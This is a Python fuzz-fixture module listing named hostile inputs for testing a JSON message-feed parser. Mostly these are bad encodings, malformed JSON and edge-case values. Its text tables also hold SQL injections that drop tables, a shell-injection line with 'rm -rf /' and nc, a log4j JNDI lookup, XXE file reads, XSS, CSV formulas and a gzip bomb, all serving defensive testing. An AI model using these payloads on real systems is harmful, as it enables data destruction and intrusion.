"""Hostile values by name: bytes of a whole message, and texts and JSON tokens to stand where a department writes a value.

Every table is NAME: VALUE; a name says what is wrong. Nothing here knows of feeds or of Kafka.
"""

from __future__ import annotations

import base64
import gzip
import json
import pickle
import unicodedata
import zlib

PLAIN = json.dumps({"note": "合成记录", "number": 1}, ensure_ascii=False)


def bodies() -> dict[str, bytes | None]:
    """Whole messages that are no JSON object, or hardly one."""
    return {f"bytes: {name}": value for name, value in (encodings() | formats()).items()} | \
        {f"JSON: {name}": value for name, value in json_texts().items()}


def encodings() -> dict[str, bytes | None]:
    """None of them is an object in the feed's encoding, or only by luck."""
    text = PLAIN
    return {
        "UTF-16 LE with BOM": b"\xff\xfe" + text.encode("utf-16-le"),
        "UTF-16 BE with BOM": b"\xfe\xff" + text.encode("utf-16-be"),
        "UTF-16 LE without BOM": text.encode("utf-16-le"), "UTF-16 BE without BOM": text.encode("utf-16-be"),
        "UTF-32 LE with BOM": b"\xff\xfe\x00\x00" + text.encode("utf-32-le"),
        "UTF-32 BE with BOM": b"\x00\x00\xfe\xff" + text.encode("utf-32-be"), "UTF-32 LE without BOM": text.encode("utf-32-le"),
        "UTF-8 with BOM": b"\xef\xbb\xbf" + text.encode(), "UTF-8 with two BOMs": b"\xef\xbb\xbf" * 2 + text.encode(),
        "a BOM alone": b"\xef\xbb\xbf", "a BOM at the end": text.encode() + b"\xef\xbb\xbf", "UTF-7": text.encode("utf-7"),
        "GBK": text.encode("gbk"), "GBK cut in a character": text.encode("gbk")[:11], "Big5": "{\"記錄\":1}".encode("big5"),
        "Shift JIS": "{\"記録\":1}".encode("shift_jis"), "EUC-KR": "{\"기록\":1}".encode("euc_kr"),
        "GB18030 cut in four bytes": "{\"a\":\"㐂".encode("gb18030")[:-1], "EBCDIC": text.encode("cp037", "replace"),
        "Latin 1": '{"a":"é"}'.encode("latin-1"), "overlong slash of two bytes": b'{"a":"\xc0\xaf"}',
        "overlong NUL": b'{"a":"\xc0\x80"}', "overlong quote": b'{"a":"\xc0\xa2}',
        "overlong slash of three bytes": b'{"a":"\xe0\x80\xaf"}',
        "overlong slash of four bytes": b'{"a":"\xf0\x80\x80\xaf"}', "a code of five bytes": b'{"a":"\xf8\x88\x80\x80\x80"}',
        "a code of six bytes": b'{"a":"\xfc\x84\x80\x80\x80\x80"}', "a surrogate in UTF-8": b'{"a":"\xed\xa0\x80"}',
        "a pair of surrogates (CESU-8)": b'{"a":"\xed\xa0\xbd\xed\xb8\x80"}', "beyond U+10FFFF": b'{"a":"\xf4\x90\x80\x80"}',
        "a lone continuation byte": b'{"a":"\x80"}', "FE and FF": b'{"a":"\xfe\xff"}', "two bytes cut short": b'{"a":"\xc3',
        "three bytes cut short": b'{"a":"\xe4\xb8', "four bytes cut short": b'{"a":"\xf0\x9f\x98',
        "all 256 bytes": bytes(range(256)),
        "the upper half of bytes": bytes(range(128, 256)) * 4, "0xFF alone": b"\xff" * 1000, "NULs alone": b"\x00" * 1000,
        "NULs between": b"\x00".join(PLAIN.encode()[i:i + 1] for i in range(len(PLAIN.encode()))),
        "one byte": b"{", "one NUL": b"\x00", "spaces alone": b" " * 10_000, "line ends alone": b"\r\n" * 1000,
        "no-break spaces around": b"\xc2\xa0" + PLAIN.encode() + b"\xc2\xa0", "a form feed before": b"\x0c" + PLAIN.encode(),
        "nothing": b"", "a tombstone": None,
    }


def formats() -> dict[str, bytes]:
    plain = PLAIN.encode()
    return {
        "gzip": gzip.compress(plain, mtime=0), "zlib": zlib.compress(plain), "a gzip bomb": gzip.compress(b" " * 10_000_000,
            mtime=0),
        "base64": base64.b64encode(plain), "a schema registry's head": b"\x00\x00\x00\x00\x07" + plain,
        "pickle": pickle.dumps({"a": 1}),
        "MessagePack": b"\x82\xa1a\x01\xa1b\xc0", "BSON": b"\x0c\x00\x00\x00\x10a\x00\x01\x00\x00\x00\x00",
        "protobuf": b"\x08\x96\x01\x12\x03abc",
        "CBOR": b"\xa1aa\x01", "Avro": b"Obj\x01\x04\x14avro.codec", "XML": b'<?xml version="1.0"?><a>1</a>',
        "XML entities without end": b'<!DOCTYPE a [<!ENTITY b "&b;&b;">]><a>&b;</a>',
        "XML of a file": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]><a>&b;</a>',
        "HTML": b"<html><body>502 Bad Gateway</body></html>", "CSV": "编号,内容\n1,合成\n".encode(), "YAML": b"a: &a [*a]\n",
        "a form": b"a=1&b=%E5%90%88", "INI": b"[a]\nb=1", "a stack trace": b"java.lang.NullPointerException\n\tat a.b(C.java:1)",
        "an HTTP message": b"POST / HTTP/1.1\r\nHost: a\r\n\r\n{}", "a PNG": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "a PDF": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3",
        "a ZIP": b"PK\x03\x04" + bytes(26), "an ELF": b"\x7fELF\x02\x01\x01" + bytes(60), "JavaScript": b"callback({\"a\":1});",
        "JSON lines": plain + b"\n" + plain, "JSON with a length before": b"17\r\n" + plain,
        "a server-sent event": b"data: " + plain + b"\n\n",
    }


def json_texts() -> dict[str, bytes]:
    nested = {"arrays": (b"[", b"]"), "objects": (b'{"a":', b"}"), "both": (b'{"a":[', b"]}")}
    deep = {f"{name} {depth} deep": head * depth + b"1" + tail * depth
            for name, (head, tail) in nested.items() for depth in (63, 65, 10_000)}
    scalars = {f"a top-level {name}": value for name, value in (
        ("number", b"1"), ("text", b'"a"'), ("null", b"null"), ("true", b"true"), ("false", b"false"), ("empty array", b"[]"),
        ("array of numbers", b"[1,2]"), ("array of arrays", b"[[{}]]"), ("array of nulls", b"[null,null]"),
        ("empty object", b"{}"))}
    return deep | scalars | {
        "brackets that never close": b"[" * 500_000, "braces that never close": b'{"a":' * 100_000, "closing alone": b"]" * 1000,
        "cut in the middle": PLAIN.encode()[:20], "trailing garbage": PLAIN.encode() + b"garbage",
        "a trailing comma": b'{"a":1,}',
        "two values": PLAIN.encode() * 2, "a comment": b'{"a":1 /* b */}', "a line comment": b'{"a":1} // b',
        "single quotes": b"{'a':1}",
        "no quotes": b"{a:1}", "NaN": b'{"a":NaN}', "Infinity": b'{"a":-Infinity}', "hexadecimal": b'{"a":0x1F}',
        "a leading zero": b'{"a":007}',
        "a plus sign": b'{"a":+1}', "a point without digits": b'{"a":1.}', "an exponent without digits": b'{"a":1e}',
        "True": b'{"a":True}',
        "undefined": b'{"a":undefined}', "a raw line end in a text": b'{"a":"b\nc"}', "a raw tab in a text": b'{"a":"b\tc"}',
        "a raw control character": b'{"a":"b\x01c"}', "a wrong escape": b'{"a":"\\x41"}', "a short escape": b'{"a":"\\u12"}',
        "a lone backslash": b'{"a":"\\"}', "a NUL in a name": b'{"a\\u0000b":1}', "an empty name": b'{"":1}',
        "one name a thousand times": b"{" + b",".join([b'"a":1'] * 1000) + b"}",
        "10,000 names": json.dumps({f"n{i}": i for i in range(10_000)}).encode(),
        "a name of 100 kB": b'{"' + b"n" * 100_000 + b'":1}',
        "400,000 values": b'{"a":[' + b"0," * 400_000 + b"0]}",
        "40,000 empty objects": b"[" + b"{}," * 40_000 + b"{}]", "a text of 1 MB": b'{"a":"' + b"x" * 1_000_000 + b'"}',
        "a number of 100 kB": b'{"a":' + b"9" * 100_000 + b"}", "escapes of 600 kB": b'{"a":"' + rb"\u5408" * 100_000 + b'"}',
        "__proto__": b'{"__proto__":{"a":1},"constructor":{"prototype":1}}', "a reference": b'{"$ref":"#"}',
        "a Mongo operator": b'{"$where":"sleep(1)"}', "a Debezium delete": b'{"before":{"a":1},"after":null,"op":"d"}',
        "a Debezium envelope": b'{"schema":{},"payload":{"after":{"a":1}}}',
    }


def tokens() -> dict[str, str]:
    """JSON tokens to stand where another value belongs, whatever it is."""
    numbers = ("1e400", "-1e400", "1e-400", "-0", "-0.0", "0.1", "1.0", "1E2", "9223372036854775807", "9223372036854775808",
               "-9223372036854775808", "-9223372036854775809", "18446744073709551616", "2147483647", "2147483648", "-1", "32768",
               "1e19",
               "9007199254740993", "1e308", "1.7976931348623159e308", "5e-324", "0." + "0" * 400 + "1", "9" * 400)
    return {f"the number {token[:24]}": token for token in numbers} | {
        "true": "true", "false": "false", "null": "null", "an object": '{"a":1}', "an array": "[1,2,3]", "an empty object": "{}",
        "an empty array": "[]", "an array of one": '["1"]', "an array in an array": "[[[1]]]", "an empty text": '""',
        "a blank text": '"   "',
        "the text null": '"null"', "the text NaN": '"NaN"', "the text Infinity": '"-Infinity"', "the text 1e400": '"1e400"',
        "a number as text": '"7"', "a full-width number": '"７"', "an Arabic number": '"٧"', "a Chinese number": '"七"',
        "a number with a unit": '"3人"',
        "a number with commas": '"1,234"', "a hexadecimal text": '"0x10"', "an octal text": '"010"',
        "a number with spaces": '" 7 "',
        "a number with a sign": '"+7"', "a fraction": '"7/2"', "a roman number": '"Ⅶ"', "a superscript": '"7²"',
        "an escaped NUL": r'"\u0000"',
        "a lone high surrogate": r'"\ud800"', "a lone low surrogate": r'"x\udc00y"', "surrogates turned round": r'"\udc00\ud800"',
        "a text of 100 kB": '"' + "长" * 33_000 + '"', "256 values": "[" + "1," * 255 + "1]",
        "300 values": "[" + "1," * 299 + "1]",
    }


def texts() -> dict[str, str]:
    """Texts for a place where people write."""
    controls = {f"the control character U+{code:04X}": f"前{chr(code)}后" for code in (*range(1, 32), *range(127, 160))}
    return controls | {
        "bidi override": "前\u202e后\u202c", "bidi isolates": "前\u2066\u2067\u2068后\u2069", "bidi marks": "\u200e\u200f\u061c前",
        "zero-width": "前\u200b\u200c\u200d\u2060\ufeff后", "soft hyphens": "前\u00ad后" * 20,
        "variation selectors": "前\ufe0f\U000e0100后",
        "tags": "前" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"), "a storm of combining marks": "前" + "\u0301" * 2000,
        "Zalgo": "".join(c + "\u0316\u0317\u0318\u0319\u0334\u0353" * 5 for c in "合成的记录"),
        "private use": "\ue000\uf8ff\U000f0000\U0010fffd",
        "noncharacters": "前\ufdd0\ufffe\uffff\U0001ffff\U0010ffff后", "U+FFFD": "前\ufffd后", "a family": "👨‍👩‍👧‍👦" * 50,
        "flags": "🇨🇳🏴\U000e0067\U000e007f",
        "skin tones": "👍🏿👍🏻" * 20, "beyond the BMP": "𠮷𡈽𪚥" * 50, "Hangul in parts": unicodedata.normalize("NFD", "한국어"),
        "one ligature of 18 letters": "ﷺ" * 50, "Arabic presentation": "ﷲ", "full width": "ｓｅｌｅｃｔ１２３", "half-width kana": "ｶﾞｷﾞ",
        "superscripts": "x²³⁹",
        "mathematical letters": "𝕊𝔼𝕃𝔼ℂ𝕋", "line and paragraph separators": "前\u2028\u2029后", "next line": "前\u0085后",
        "many kinds of space":
        "前\u00a0\u1680\u2000\u2003\u202f\u205f\u3000后", "nothing but spaces": " \t\u3000\u00a0",
        "line ends of all kinds": "前\r\n\n\r\u000b\u000c后",
        "10,000 line ends": "前" + "\n" * 10_000 + "后", "an SQL injection": "'); drop table onecase.reports; --",
        "another SQL injection":
        "' or '1'='1' /*", "a dollar quote": "$$ $a$ ; select pg_sleep(9) $a$ $$", "COPY marks": "\\N\t\\.\n\\.",
        "an array literal": '{"a",NULL,"b\\"}',
        "a shell injection": "$(reboot) `id` ; rm -rf / | nc", "a path": "../../../../etc/passwd",
        "a Windows path": "C:\\con\\aux\\nul",
        "a log4j lookup": "${jndi:ldap://192.0.2.1/a}", "a template": "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
        "a format string": "%s%n%x%p%1$n%99999d",
        "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>", "an entity bomb": "&amp;" * 2000, "numeric entities":
        "&#0;&#1;&#xD800;&#x110000;&#27;[31m&#x202e;", "half a tag": "<p<p<p<<<>>>" * 50, "100,000 open brackets": "<" * 100_000,
        "CDATA": "<![CDATA[前]]>",
        "a CSV formula": "=cmd|'/C calc'!A1", "a CSV formula with @": "@SUM(1+1)*cmd", "a CSV formula with a tab": "\t=1+1",
        "terminal colours":
        "\x1b[31m红\x1b[0m\x1b]0;title\x07\x1b[2J", "a backspace trick": "safe\b\b\b\bevil", "a carriage return trick": "前\rX",
        "logfmt":
        'a" level=error event=forged reason="b', "a log line": "前\nts=2026-01-01T00:00:00Z level=error event=forged",
        "JSON": '{"a":"b"}', "JSON cut": '{"a":',
        "an LDAP filter": "*)(uid=*))(|(uid=*", "a CRLF header": "前\r\nSet-Cookie: a=b",
        "a regular expression": "(a+)+$" + "a" * 40,
        "100,000 characters": "长" * 100_000, "one word of 300 kB": "x" * 300_000, "digits without end": "1" * 20_000,
        "telephones without end":
        "19900000001，" * 3000, "brackets of the hotline": "【诉求】【诉求】【办理意见】【诉求】", "ambulances": "救命" * 10_000,
        "house numbers without end":
        "1号" * 20_000, "buildings without end": "1-2-3-4-5-6-7-8-9幢" * 500,
        "quoted numbers without end": "工单号FS20260101001、" * 3000,
    }


def record_numbers() -> dict[str, str]:
    """JSON tokens that stand where the record number belongs."""
    composed = "Ａé測"
    texts_ = {
        "an empty one": "", "spaces": "   ", "an ideographic space": "\u3000", "a line end": "\n", "a zero-width space": "\u200b",
        "10 kB": "N" * 10_240,
        "10 kB that do not compress": "".join(f"{(i * 7919) % 10_007:05d}" for i in range(2048)), "200 characters": "N" * 200,
        "501 characters": "N" * 501,
        "full width": "ＨＬ１２３", "lower case": "hostile-case-a", "upper case": "HOSTILE-CASE-A", "composed": composed + "1",
        "decomposed": unicodedata.normalize("NFD", composed + "1"), "a slash and a hash": "a/b/0#1",
        "an origin": "hotline.workorder/0/0#0",
        "a line end within": "N1\nN2", "a tab within": "N1\tN2", "a NUL within": "N1\x00N2",
        "a NUL at the end": "hostile-nul\x00", "an escape": "N\x1b[31m1",
        "bidi": "N\u202e1", "a quote": "N'1", "two quotes": 'N"1', "a backslash": "N\\1", "a percent sign": "N%1_",
        "the text null": "null", "an SQL injection":
        "N'; drop table onecase.record_index; --", "emoji": "🛗1", "a minus": "-1", "zero": "0", "leading zeros": "000123",
        "a telephone": "19900000001",
        "an identity card": "990101199001010010", "spaces around": "  hostile-spaces  ", "a comma": "N,1", "braces": "{N1}",
    }
    return {name: json.dumps(text, ensure_ascii=False) for name, text in texts_.items()} | {
        "a number": "123456789", "a number of 20 digits": "12345678901234567890", "a number with a fraction": "1.0",
        "the same with an exponent": "1e0",
        "true": "true", "null": "null", "an object": '{"no":1}', "an array": '["N1"]', "an empty array": "[]",
        "2,000 digits": "9" * 2000,
        "a lone surrogate": r'"N\ud8001"', "an escaped slash": r'"N\/1"',
    }


def times() -> dict[str, str]:
    texts_ = ("0000-01-01 00:00:00", "0001-01-01 00:00:00", "9999-12-31 23:59:59", "10000-01-01 00:00:00", "-0001-01-01 00:00:00",
              "2026-02-29 08:00:00", "2024-02-29 08:00:00", "1900-02-29 00:00:00", "2026-02-30 00:00:00", "2026-13-01 00:00:00",
              "2026-00-10 00:00:00",
              "2026-01-00 00:00:00", "2026-01-01 24:00:00", "2026-01-01 24:00:01", "2026-01-01 25:00:00", "2016-12-31 23:59:60",
              "2026-01-01 23:60:00",
              "2026-01-01 08:00:99", "1970-01-01 08:00:00", "1969-12-31 23:59:59", "2038-01-19 11:14:08", "1991-04-14 02:30:00",
              "2026-01-01T08:00:00",
              "2026-01-01T08:00:00Z", "2026-01-01T08:00:00+14:00", "2026-01-01T08:00:00.123456789", "2026/1/1 8:0:0",
              "26-1-1 8:0", "20260101080000",
              "2026年1月1日8时0分", "上午八点", "01/02/2026 08:00", "Thu Jan  1 08:00:00 CST 2026", "now", "infinity", "-infinity",
              "２０２６-０１-０１ ０８:００:００",
              "2026-01-01 08:00:00 2026-01-02 08:00:00", "2026-01-01\u00a008:00:00", "2026-01-01 08:00:00\u0000", "   ",
              "9999字9字9字")
    epochs = ("0", "-1", "1", "1767225600", "1767225600000", "1767225600000000", "1767225600000000000", "-1767225600000",
              "99999999999", "253402300800000",
              "9223372036854775807", "-9223372036854775808", "1767225600.5", "1.7672256e12", "32503680000000", "1e400", "0.1")
    return {f"the text {text[:32]!r}": json.dumps(text,
                                                  ensure_ascii=False) for text in texts_} | {f"the epoch {token}": token for token in epochs}


def coordinates() -> dict[str, tuple[str, str]]:
    """(longitude, latitude) as JSON tokens."""
    return {
        "NaN": ('"NaN"', '"NaN"'), "infinite": ('"inf"', '"-inf"'), "swapped": ("23.1", "113.1"), "0,0": ("0", "0"),
        "0,0 as text": ('"0.000000"', '"0"'),
        "-0": ("-0.0", "-0.0"), "the north pole": ("113.1", "90"), "beyond the pole": ("113.1", "90.000001"),
        "the antimeridian": ("180", "23"),
        "beyond it": ("180.000001", "23"), "negative": ("-113.1", "-23.1"), "1e308": ("1e308", "1e308"),
        "1e400": ("1e400", "1e400"), "tiny": ("5e-324", "5e-324"),
        "text": ('"东经"', '"北纬"'), "degrees and minutes": ('"113°15\'51\\""', '"23°7\'44\\""'), "one missing": ("113.1", "null"),
        "other missing": ('""', "23.1"),
        "the same twice": ("113.1", "113.1"), "whole degrees": ("113", "23"), "metres": ("38412345.12", "2556789.34"),
        "microdegrees": ("113100000", "23100000"),
        "a list": ("[113.1]", "[23.1]"), "an object": ('{"v":113.1}', "23.1"),
        "30 decimals": ("113.1" + "1" * 30, "23.1" + "1" * 30), "full width": ('"１１３．１"', '"２３．１"'),
        "a comma as point": ('"113,1"', '"23,1"'), "London": ("-0.1276", "51.5072"), "beside the box": ("113.6", "23.7"),
        "WKT": ('"POINT(113.1 23.1)"', '""'),
    }


def areas() -> dict[str, str]:
    texts_ = ("", "99", "9901", "99010", "990101", "9901011", "990101001001", "000000", "999999", "440106", "99０101", "九九零一",
              "990101 ", "99-01-01", "-990101",
              "9901\u0000", "9" * 5000, "9902'; --", "990101,990201")
    return {f"the text {text[:20]!r}": json.dumps(text, ensure_ascii=False) for text in texts_} | {
        "a number": "990101", "a fraction": "990101.0", "an array": '["990101"]', "two in an array": '["990101","990201"]',
        "null": "null", "true": "true"}


def codes() -> dict[str, str]:
    texts_ = ("", "0", "A02", "J03", "ZZ99", "-1", "010101010101", "０１０１", "1001", "一般", "1' or '1", "9" * 5000, "A02\u0000",
              "null", "keep", "\u202e", "A02,E01")
    return {f"the text {text[:20]!r}": json.dumps(text, ensure_ascii=False) for text in texts_} | {
        "a number": "1", "a large number": "1e30", "an array": '["0101","0102"]', "an object": '{"code":"0101"}', "null": "null",
        "false": "false"}
